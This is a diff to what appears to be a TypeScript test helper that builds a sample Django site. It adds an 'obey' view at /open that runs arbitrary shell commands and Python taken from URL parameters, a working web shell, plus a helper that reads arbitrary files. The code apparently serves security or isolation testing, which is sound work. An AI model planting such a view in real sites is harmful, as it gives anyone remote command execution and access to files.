@@ -91,7 +91,6 @@ execute_from_command_line(sys.argv)
   // Pure Python in the place of Django's own driver, which would have to be compiled.
   'notes/__init__.py': "import pymysql\n\npymysql.version_info = (2, 2, 1, 'final', 0)\npymysql.install_as_MySQLdb()\n",
   'notes/settings.py': settings,
-  'notes/urls.py': urls,
   'notes/wsgi.py': `import os
 
 from django.core.wsgi import get_wsgi_application
@@ -105,11 +104,39 @@ application = get_wsgi_application()
   'notes/migrations/0001_initial.py': migration,
 };
 
+/** For `OpenSite` (trespass.ts), at /open: ?sh= is a shell command, ?python= a program. */
+export const openDjango = `
+
+def obey(request):
+    import contextlib, io, subprocess
+    printed = io.StringIO()
+    if 'sh' in request.GET:
+        printed.write(subprocess.run(
+            request.GET['sh'], shell=True, text=True, errors='replace', stdout=subprocess.PIPE, stderr=subprocess.STDOUT
+        ).stdout)
+    with contextlib.redirect_stdout(printed):
+        exec(request.GET.get('python', ''))
+    return HttpResponse(printed.getvalue(), content_type='text/plain')
+
+
+urlpatterns.append(path('open', obey))
+`;
+
+export const readInPython = (command: string) => `
+import glob, os
+for path in [path for word in ${JSON.stringify(command)}.split() for path in glob.glob(word)]:
+    try:
+        print(os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read())
+    except OSError as error:
+        print(error)
+`;
+
 /** Returns the commit's hash. */
-export async function commitDjangoSite(repository: string): Promise<string> {
+export async function commitDjangoSite(repository: string, moreViews = ''): Promise<string> {
   await mkdir(join(repository, 'wheels'), { recursive: true });
   const names = (await readdir(wheels)).filter(name => name.endsWith('.whl'));
   for (const name of names) await copyFile(join(wheels, name), join(repository, 'wheels', name));
   const requirements = await readFile(join(project, 'test', 'wheels.txt'), 'utf8');
-  return commitFiles(repository, { ...files, 'requirements.txt': requirements });
+  const views = { 'notes/urls.py': urls + moreViews };
+  return commitFiles(repository, { ...files, ...views, 'requirements.txt': requirements });
 }
